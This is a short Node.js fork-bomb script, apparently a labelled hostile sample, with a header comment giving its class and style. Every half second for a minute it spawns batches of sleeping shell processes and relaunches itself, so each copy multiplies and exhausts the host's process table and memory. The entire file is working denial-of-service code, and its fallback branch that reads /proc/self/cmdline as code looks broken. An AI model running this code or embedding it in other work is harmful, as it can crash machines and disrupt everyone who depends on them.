// class: fork bomb; possible: low medium; style: node starts itself, three a time, half a second apart
const { spawn } = require("child_process");
const fs = require("fs");
const file = __filename && fs.existsSync(__filename) ? [__filename] : ["-e", fs.readFileSync("/proc/self/cmdline", "utf8")];
const go = () => {
  for (let i = 0; i < 3; i++) spawn("sh", ["-c", "sleep 60 & sleep 60 & sleep 60 & wait"], { stdio: "ignore" }).on("error", () => {});
  if (file.length === 1) spawn(process.execPath, file, { stdio: "ignore" }).on("error", () => {});
};
const t = setInterval(go, 500);
setTimeout(() => clearInterval(t), 60000);
